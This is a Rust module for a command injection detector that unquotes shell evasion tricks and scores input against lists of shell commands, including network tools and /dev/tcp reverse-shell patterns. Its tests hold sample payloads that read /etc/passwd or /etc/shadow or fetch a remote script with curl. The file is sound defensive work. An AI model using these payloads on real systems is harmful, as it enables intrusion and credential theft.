//! OS command injection (unix shells and Windows cmd / PowerShell). The value is
//! first shell-unquoted the way a shell would read it (`c'a't`, `c\at`, `$@`,
//! `${IFS}`, `{cat,/etc/passwd}`), then split at command separators (`;` `|` `&`
//! newline, `` ` ``, `$(`); the first word of each segment (path prefix and `.exe`
//! stripped) is looked up in two command tiers. Weights depend on the separator and
//! on whether arguments look like flags, paths or URLs, so prose with "&" or a
//! single English word after a pipe stays below the threshold. Linear time.

use crate::detect::{Field, Hits};
use crate::verdict::Class;

/// Commands that are rarely English words.
const TIER_A: &[&str] = &[
    "whoami", "uname", "ifconfig", "ipconfig", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh",
    "ksh", "csh", "tcsh", "dash", "powershell", "pwsh", "cmd", "systeminfo", "nslookup", "ping", "telnet",
    "chmod", "chown", "passwd", "python", "python2", "python3", "perl", "ruby", "php", "lua", "nmap", "tftp",
    "base64", "xxd", "awk", "gawk", "sed", "busybox", "useradd", "usermod", "crontab", "nohup", "printenv",
    "id", "ls", "cat", "rm", "mkfifo", "netstat", "ps", "sudo", "su", "tcpdump", "socat", "xterm", "certutil",
    "bitsadmin", "wmic", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "tasklist", "taskkill",
    "nbtstat", "whois", "traceroute", "tracert", "grep", "egrep", "fgrep", "xargs", "tac", "nl", "od",
    "hexdump", "strings", "vi", "vim", "gcc", "killall", "pkill", "reboot", "shutdown", "mknod", "scp",
    "ssh", "rsync", "ftp", "sftp", "lwp-download", "lwp-request", "aria2c", "openssl", "unzip", "gzip",
    "gunzip", "bzip2", "dmesg", "lsof", "getent", "hostname", "uptime", "chattr", "strace", "ltrace",
    "findstr", "icacls", "cacls", "schtasks", "wevtutil", "net", "dig", "sleep", "whoami.exe", "env",
    "uname", "pwd", "echo", "printf", "jrunscript", "node", "lsb_release", "arp",
];

/// Commands that are also common words; need argument evidence.
const TIER_B: &[&str] = &[
    "find", "head", "tail", "more", "less", "last", "who", "w", "time", "set", "export", "type", "dir",
    "copy", "move", "del", "ren", "ver", "vol", "sort", "cut", "date", "test", "tar", "make", "host",
    "route", "kill", "source", "alias", "eval", "exec", "tee", "cp", "mv", "ln", "cd", "ed", "df", "du",
    "free", "top", "file", "stat", "touch", "which", "whereis", "locate", "diff", "wc", "tr", "uniq",
    "expr", "dd", "mount", "ssh-keygen", "zip", "java", "unset", "reg", "sc", "at", "start", "call",
];

fn lookup(word: &[u8]) -> Option<bool> {
    let w = String::from_utf8_lossy(word).to_ascii_lowercase();
    let w = w.strip_suffix(".exe").unwrap_or(&w);
    if TIER_A.contains(&w) {
        Some(true)
    } else if TIER_B.contains(&w) {
        Some(false)
    } else {
        None
    }
}

/// Reads `s` the way a shell would join a word: quotes and backslashes removed,
/// `$@` / `$*` / empty `${}` dropped, `${IFS}` / `$IFS` to a space, brace lists
/// `{a,b}` to `a b`.
pub(crate) fn unquote(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        match b {
            b'\\' if s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
            b'\'' | b'"' if out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric())
                && s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"') =>
            {
                i += 1
            }
            b'$' => {
                let rest = &s[i + 1..];
                if rest.starts_with(b"@") || rest.starts_with(b"*") {
                    i += 2;
                } else if rest.len() >= 5 && rest[..5].eq_ignore_ascii_case(b"{ifs}") {
                    out.push(b' ');
                    i += 6;
                } else if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"ifs") {
                    out.push(b' ');
                    i += 4;
                    if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
                        i += 2;
                    }
                } else if rest.starts_with(b"{}") || rest.starts_with(b"()") {
                    i += 3;
                } else {
                    out.push(b);
                    i += 1;
                }
            }
            b'{' => {
                // brace expansion {cmd,arg}: only when no spaces inside
                let end = s[i + 1..].iter().take(256).position(|&c| c == b'}' || c == b' ');
                match end {
                    Some(e) if s[i + 1 + e] == b'}' && s[i + 1..i + 1 + e].contains(&b',') => {
                        out.push(b' ');
                        for &c in &s[i + 1..i + 1 + e] {
                            out.push(if c == b',' { b' ' } else { c });
                        }
                        out.push(b' ');
                        i += e + 2;
                    }
                    _ => {
                        out.push(b);
                        i += 1;
                    }
                }
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Strong,
    Pipe,
    Subst,
}

fn strip_path(word: &[u8]) -> &[u8] {
    let p = word.iter().rposition(|&b| b == b'/' || b == b'\\');
    match p {
        Some(p) if p + 1 < word.len() => &word[p + 1..],
        _ => word,
    }
}

fn looks_like_arg(a: &[u8]) -> bool {
    if a.is_empty() {
        return false;
    }
    let lower = a.to_ascii_lowercase();
    a[0] == b'-'
        || a[0] == b'/'
        || a[0] == b'~'
        || a[0] == b'$'
        || a[0] == b'>'
        || a[0] == b'<'
        || a.starts_with(b"./")
        || a.starts_with(b"..")
        || a.starts_with(b"\\\\")
        || (a.len() >= 3 && a[1] == b':' && (a[2] == b'\\' || a[2] == b'/'))
        || lower.starts_with(b"http:")
        || lower.starts_with(b"https:")
        || lower.starts_with(b"ftp:")
        || (a.iter().filter(|&&b| b == b'.').count() == 3 && a[0].is_ascii_digit())
        || (a.len() >= 2 && a[0] == b'%' && a[1].is_ascii_alphabetic())
}

/// Scores `s` for command injection.
pub(crate) fn scan(s: &[u8], field: Field, hits: &mut Hits) {
    let u = unquote(s);
    let mut best = (0u32, "cmdi");
    let mut bump = |w: u32, id: &'static str| {
        if w > best.0 {
            best = (w, id);
        }
    };
    if u.len() != s.len() && (contains(s, b"${ifs") || contains(s, b"$ifs") || contains(s, b"${IFS") || contains(s, b"$IFS")) {
        bump(6, "cmdi-evasion");
    }
    if contains(&u, b"/dev/tcp/") || contains(&u, b"/dev/udp/") {
        bump(8, "cmdi-reverse-shell");
    }
    glob_path(&u, &mut bump);
    let mut i = 0;
    let mut sep = Sep::Start;
    while i <= u.len() {
        // find next segment start
        let seg_start = i;
        let mut j = i;
        let mut next_sep = Sep::Strong;
        while j < u.len() {
            match u[j] {
                b';' | b'\n' | b'\r' => break,
                b'&' => break,
                b'|' => {
                    next_sep = if u.get(j + 1) == Some(&b'|') { Sep::Strong } else { Sep::Pipe };
                    break;
                }
                b'`' => {
                    next_sep = Sep::Subst;
                    break;
                }
                b'$' if u.get(j + 1) == Some(&b'(') => {
                    next_sep = Sep::Subst;
                    break;
                }
                b'(' | b'{' if field != Field::UserAgent => {
                    next_sep = Sep::Pipe;
                    break;
                }
                _ => j += 1,
            }
        }
        segment(&u[seg_start..j], sep, field, &mut bump);
        if j >= u.len() {
            break;
        }
        // skip the separator run
        let mut k = j;
        while k < u.len() && matches!(u[k], b';' | b'\n' | b'\r' | b'&' | b'|' | b'`' | b'$' | b'(' | b'{') {
            if u[k] == b'$' && u.get(k + 1) != Some(&b'(') {
                break;
            }
            k += 1;
        }
        sep = next_sep;
        i = k.max(j + 1);
    }
    if best.0 > 0 {
        hits.add(Class::Cmdi, best.1, best.0);
    }
}

fn contains(h: &[u8], n: &[u8]) -> bool {
    memchr::memmem::find(h, n).is_some()
}

fn segment(seg: &[u8], sep: Sep, field: Field, bump: &mut impl FnMut(u32, &'static str)) {
    let mut words = seg.split(|&b| b == b' ' || b == b'\t' || b == b'<' || b == 0x0b).filter(|w| !w.is_empty());
    let Some(mut first) = words.next() else { return };
    // skip leading env assignments and `!`
    let mut guard = 0;
    while (first.contains(&b'=') && !first.starts_with(b"=")) || first == b"!" {
        guard += 1;
        match words.next() {
            Some(w) if guard < 4 => first = w,
            _ => return,
        }
    }
    let first_trim = first.strip_prefix(b"(").unwrap_or(first);
    let cmd = strip_path(first_trim);
    let Some(tier_a) = lookup(cmd) else { return };
    let had_path = cmd.len() != first_trim.len() && first_trim.starts_with(b"/");
    let arg = words.next();
    let has_arg = arg.is_some_and(looks_like_arg);
    let end = arg.is_none() || arg.is_some_and(|a| a.starts_with(b"#") || a.starts_with(b"`") || a == b")");
    let w = match (sep, tier_a) {
        (Sep::Subst, _) => {
            if tier_a || has_arg || end {
                8
            } else {
                4
            }
        }
        (Sep::Strong, true) => {
            if has_arg || end || had_path {
                7
            } else {
                4
            }
        }
        (Sep::Pipe, true) => {
            if has_arg || end || had_path {
                6
            } else {
                3
            }
        }
        (Sep::Strong, false) => {
            if has_arg || had_path {
                5
            } else if end {
                3
            } else {
                1
            }
        }
        (Sep::Pipe, false) => {
            if has_arg || had_path {
                4
            } else {
                1
            }
        }
        (Sep::Start, true) => {
            if field == Field::UserAgent {
                0
            } else if had_path {
                6
            } else if has_arg {
                5
            } else {
                0
            }
        }
        (Sep::Start, false) => {
            if had_path && field != Field::Path {
                5
            } else {
                0
            }
        }
    };
    if w > 0 {
        bump(w, "cmdi-command");
    }
}

/// `/???/c?t`, `/bin/ca*`: path segments made of glob characters.
fn glob_path(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
    let mut segs = 0;
    let mut globby = 0;
    for part in s.split(|&b| b == b'/') {
        if part.is_empty() {
            continue;
        }
        segs += 1;
        let g = part.iter().filter(|&&b| b == b'?' || b == b'*').count();
        if g > 0 && g * 2 >= part.len() && part.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'?' || *b == b'*') {
            globby += 1;
        }
    }
    if globby >= 2 && segs >= 2 {
        bump(7, "cmdi-glob");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &str) -> u32 {
        let mut h = Hits::default();
        scan(v.as_bytes(), Field::Value, &mut h);
        h.score(Class::Cmdi)
    }

    #[test]
    fn cmdi_payloads_score_high() {
        for p in [";cat /etc/passwd", "| id", "`whoami`", "$(curl http://x/y.sh)", "a;c'a't /etc/shadow", "x&&ping -c 3 127.0.0.1", "/???/??t /???/p??s??", ";cat${IFS}/etc/passwd"] {
            assert!(s(p) >= 5, "{p} scored {}", s(p));
        }
    }

    #[test]
    fn cmdi_prose_and_code_score_low() {
        for p in [
            "tea & books",
            "M&M's peanut butter",
            "git log --oneline --graph --decorate | head -20 shows the last 20 commits nicely.",
            "PowerShell: Get-ChildItem -Path . -Filter *.log | Measure-Object",
            "cat videos compilation",
        ] {
            assert!(s(p) < 5, "{p} scored {}", s(p));
        }
    }
}
